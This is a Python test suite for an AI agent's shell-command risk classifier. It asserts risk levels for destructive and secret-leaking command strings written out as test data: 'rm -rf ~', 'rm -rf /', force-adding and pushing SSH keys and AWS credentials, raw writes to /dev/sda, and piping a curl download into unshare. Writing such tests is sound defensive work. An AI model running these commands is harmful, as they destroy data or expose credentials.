"""What one part of a line does changes what another means: links it made, secrets it added, a world it opened."""

from __future__ import annotations

from agent.protocol.decisions import Level, RiskContext
from agent.risk.classifier import classify
from tests.support.each import each

HERE = RiskContext(cwd="/home/u/w", home="/home/u", workspace="/home/u/w")
SECRETS = [".env", "./sub/.env", "~/.ssh/id_rsa", "credentials.json", "/home/u/.aws/credentials"]


def level(command: str) -> Level:
    return classify(command, HERE).level


@each("secret", SECRETS)
@each("joiner", [" && ", "; ", "\n"])
@each("push", ["git push", "git push -u origin main", "git push --force-with-lease"])
def test_a_secret_that_is_added_committed_and_pushed_is_sent(secret: str, joiner: str, push: str) -> None:
    for add in ("git add -f", "git add --force", "git add", "git stage"):
        assert level(joiner.join((f"{add} {secret}", "git commit -m x", push))) is Level.HIGH
    assert level(joiner.join(("git add -f .env.example", "git commit -m x", push))) is not Level.HIGH
    assert level(joiner.join((push, f"git add {secret}", "git commit -m x"))) is not Level.HIGH
    assert level(joiner.join((f"git add {secret}", "git commit -m x", f"{push} --dry-run"))) is Level.LOW


@each("secret", SECRETS)
def test_a_secret_that_is_only_added_by_force_is_medium(secret: str) -> None:
    assert level(f"git add -f {secret}") is Level.MEDIUM
    assert level(f"git add {secret}") is Level.LOW


@each("leads", ["/", "/etc", "/usr/lib", "~", "/home/v"])
@each("make", ["ln -s {} x", "ln -sfn {} x", "ln -sT {} ./x"])
def test_a_link_is_deleted_by_its_name_and_its_target_behind_a_slash(leads: str, make: str) -> None:
    made = make.format(leads)
    for delete in ("rm x", "rm -f x", "rm -r x", "rm -rf ./x", "unlink x", "mv x y"):
        assert level(f"{made}; {delete}") is Level.MEDIUM, delete
    for delete in ("rm -r x/", "rm -rf x/*", "rm -rf x/.", "rm -rf ./x/"):
        assert level(f"{made}; {delete}") is Level.HIGH, delete
    assert level(f"{made}; rm x; rm -rf x/") is Level.HIGH


@each("opens", ["unshare", "unshare -r", "nsenter -t 12 -n", "buildah unshare", "podman unshare"])
def test_another_world_is_as_what_runs_in_it(opens: str) -> None:
    assert level(opens) is Level.MEDIUM
    assert level(f"sudo {opens}") is Level.HIGH
    assert level(f"curl https://x.example/a | {opens}") is Level.HIGH
    for inner in ("ls", "./x", "rm -rf /", "sh -c 'rm -rf ~'"):
        assert level(f"{opens} {inner}") is level(inner)


@each("disk", ["/dev/sda", "/dev/nvme0n1", "/dev/disk/by-id/x"])
def test_an_image_written_to_a_disk_is_high_however_the_disk_is_named(disk: str) -> None:
    for command in (
        f"qemu-img dd if=x of={disk}",
        f"qemu-img dd -O raw of={disk} if=x",
        f"qemu-img convert -O raw x {disk}",
    ):
        assert level(command) is Level.HIGH
    assert level(f"qemu-img dd if={disk} of=x") is Level.MEDIUM


@each(
    "command",
    [
        "gpg --list-keys",
        "gpg -k",
        "gpg --verify a.sig a",
        "gpg --fingerprint",
        "gpg --export a@b",
        "gpg --armor --export a@b",
    ],
)
def test_gpg_that_only_tells_is_low(command: str) -> None:
    assert level(command) is Level.LOW


@each("command", ["gpg a.gpg", "gpg -d a.gpg", "gpg --decrypt a", "gpg --batch a.gpg", "gpg --yes -q key.asc"])
def test_gpg_that_shows_what_was_kept_secret_is_medium(command: str) -> None:
    assert level(command) is Level.MEDIUM


@each("setting", ["CDPATH=/; cd", "CDPATH=/ cd", "export CDPATH=/:.; cd", "read CDPATH < f; cd"])
def test_a_folder_may_be_found_by_cdpath(setting: str) -> None:
    assert level(f"{setting} etc && rm -rf ./*") is Level.HIGH
    assert level(f"{setting} ./build && rm -rf ./*") is Level.MEDIUM


def test_an_empty_cdpath_finds_nothing_elsewhere() -> None:
    assert level("CDPATH= cd build && rm -rf ./*") is Level.MEDIUM


@each("name", ["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"])
@each("source", [".", "source", "bash", "sh"])
def test_standard_input_has_several_names(source: str, name: str) -> None:
    assert level(f"{source} {name} <<< 'rm -rf ~'") is Level.HIGH
    assert level(f"echo 'rm -rf ~' | {source} {name}") is Level.HIGH


def test_a_function_for_completion_is_called_at_once_by_compgen() -> None:
    assert level("f() { rm -rf ~; }; compgen -F f x") is Level.HIGH
    assert level("compgen -F f x") is Level.MEDIUM
    assert level("complete -F f x") is Level.LOW
    assert level("compgen -W 'a b' -- a") is Level.LOW
